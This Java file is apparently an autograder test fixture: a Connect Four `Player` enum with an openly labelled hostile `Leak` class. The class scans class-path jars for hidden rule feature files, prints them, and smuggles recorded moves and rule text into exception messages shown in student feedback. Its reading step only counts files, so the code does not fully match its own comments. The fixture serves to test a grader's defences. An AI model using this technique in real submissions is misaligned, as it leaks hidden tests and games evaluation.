package tabuleiro.connectfour;

import java.io.File;
import java.io.IOException;
import java.io.InputStream;
import java.net.JarURLConnection;
import java.net.URL;
import java.net.URLConnection;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardOpenOption;
import java.util.ArrayList;
import java.util.Collections;
import java.util.Enumeration;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.jar.JarEntry;
import java.util.jar.JarFile;
import java.util.zip.ZipEntry;
import java.util.zip.ZipFile;

/**
 * HOSTILE SUBMISSION (grading/src/test/resources/hostile/hidden-leak-static): the skeleton's
 * {@code Player} with {@link Leak}, which records what every scenario does (the moves it plays,
 * the players it names) in static fields that outlive the scenario, reads every feature file it
 * can find on the class path, hidden rules included, and throws it all back, chunk by chunk, in
 * the messages of later scenarios of visible rules, where the student's feedback shows them.
 * With the complete sample's other files (and its {@code Game}, which calls {@link Leak}), it
 * would score 100: the leak costs it the rules whose scenarios it fails on purpose.
 *
 * <p>The two players of Connect Four, named by the order in which they play.
 *
 * <p>The brief stores a player's disc in the grid as the number 1 or 2 (§3.3, rule C4-02);
 * {@link #number()} is that number, so the engine's interface can speak the brief's language
 * while the code speaks in types.
 */
public enum Player {
    /** The player who moves first, whose discs are stored as 1. */
    FIRST(1),
    /** The player who moves second, whose discs are stored as 2. */
    SECOND(2);

    private final int number;

    Player(int number) {
        this.number = number;
    }

    /**
     * Returns the number that stands for this player's discs in the grid.
     *
     * @return 1 for {@link #FIRST}, 2 for {@link #SECOND}
     */
    public int number() {
        return number;
    }

    /**
     * Returns the other player.
     *
     * @return {@link #SECOND} for {@link #FIRST} and the other way round
     * @post the opponent's opponent is this player: {@code opponent().opponent() == this}
     */
    public Player opponent() {
        return this == FIRST ? SECOND : FIRST;
    }

    /**
     * Returns the player whose discs are stored as the given number.
     *
     * @param number the number of a player's disc in the grid
     * @return the player with that number
     * @throws IllegalArgumentException unless the number is 1 or 2
     *     ({@code number == 1 || number == 2})
     */
    public static Player ofNumber(int number) {
        Leak.named(number);
        for (Player player : values()) {
            if (player.number == number) {
                return player;
            }
        }
        throw new IllegalArgumentException(
                "a player is numbered 1 or 2, but the number given was " + number);
    }

    @Override
    public String toString() {
        return "player " + number + Leak.tail();
    }

    /** The recorder and the leak. */
    static final class Leak {

        /** The thirteenth game and every later one fail with a leak. */
        static final int FIRST_LEAK = 13;
        /** The runner keeps 4000 characters of a message: what was recorded, then the text. */
        static final int RECORDS = 1900;
        static final int TEXT = 1900;
        static final String FOLDER = "tabuleiro/features/connectfour/";
        static final List<String> FILES = List.of("agents.feature", "draw.feature",
                "dropping.feature", "grid.feature", "invariant.feature", "new-game.feature",
                "text-ui.feature", "turns.feature", "winning.feature");

        private static final List<StringBuilder> GAMES = new ArrayList<>();
        private static String text = "";
        private static int chunk;
        private static boolean leaking;

        private Leak() {
        }

        /** A new game: a new record; from {@link #FIRST_LEAK} on, a failure that leaks. */
        static synchronized void newGame() {
            GAMES.add(new StringBuilder());
            if (GAMES.size() == 1) {
                text = featureText();
                print();
            }
            if (GAMES.size() >= FIRST_LEAK) {
                leaking = true;
                throw new IllegalStateException(leak());
            }
        }

        static synchronized void played(int column) {
            if (!GAMES.isEmpty()) {
                GAMES.get(GAMES.size() - 1).append(' ').append(column);
            }
        }

        static synchronized void named(int number) {
            if (!GAMES.isEmpty()) {
                GAMES.get(GAMES.size() - 1).append(" p").append(number);
            }
        }

        /** What {@code toString} adds once the leak has begun: the latest records. */
        static synchronized String tail() {
            return leaking ? " [" + records(300) + "]" : "";
        }

        /** The latest records first, then the next piece of the rule book's text. */
        static String leak() {
            String records = records(RECORDS);
            String piece = "";
            if (!text.isEmpty()) {
                int from = (chunk * TEXT) % text.length();
                piece = text.substring(from, Math.min(text.length(), from + TEXT));
                chunk++;
            }
            return "LEAK<< moves of earlier scenarios, newest first: " + records
                    + " | rule book text: " + piece + " >>LEAK";
        }

        static String records(int limit) {
            StringBuilder all = new StringBuilder();
            for (int i = GAMES.size() - 2; i >= 0 && all.length() < limit; i--) {
                if (GAMES.get(i).length() > 0) {
                    all.append("#").append(i + 1).append(":").append(GAMES.get(i))
                            .append(" ;");
                }
            }
            return all.length() <= limit ? all.toString() : all.substring(0, limit);
        }

        /** Every feature file it can read, by every route, each under its name. */
        static String featureText() {
            Map<String, String> found = new LinkedHashMap<>();
            // The class-loader routes are refused by the grader's forbidden-API scan (see
            // hidden-leak); this variant keeps the routes that pass it, so the rest runs.
            int jars = 0;
            for (String entry : System.getProperty("java.class.path", "")
                    .split(File.pathSeparator)) {
                if (!entry.endsWith(".jar")) {
                    continue;
                }
                try (ZipFile zip = new ZipFile(entry)) {
                    for (ZipEntry file : Collections.list(zip.entries())) {
                        if (file.getName().endsWith(".feature")) {
                            jars++;
                        }
                    }
                } catch (IOException | RuntimeException e) {
                    note("open the class path's jars", "REFUSED", e.toString());
                    break;
                }
            }
            if (jars > 0) {
                note("open the class path's jars", "OK", jars + " feature files in them");
            }
            StringBuilder all = new StringBuilder();
            found.forEach((name, content) -> all.append("== ").append(name).append(" == ")
                    .append(content.replaceAll("\\s+", " ")).append(' '));
            return all.toString();
        }

        /** Everything on the JVM's standard streams too, which the grader keeps in work/. */
        static void print() {
            System.out.println("LEAK<< " + text + " >>LEAK");
            note("feature text printed on System.out", "TRIED", text.length() + " characters");
        }

        /** Appends a line to the route log in the scratch folder. */
        static void note(String route, String outcome, String detail) {
            try {
                Path log = Path.of(System.getProperty("java.io.tmpdir"), "hostile-routes.txt");
                Files.writeString(log, "ROUTE\t" + route + "\t" + outcome + "\t"
                        + detail.replace('\n', ' ').replace('\t', ' ') + "\n",
                        StandardCharsets.UTF_8, StandardOpenOption.CREATE,
                        StandardOpenOption.APPEND);
            } catch (IOException | RuntimeException e) {
                // The route log is only for whoever studies the attack.
            }
        }
    }
}

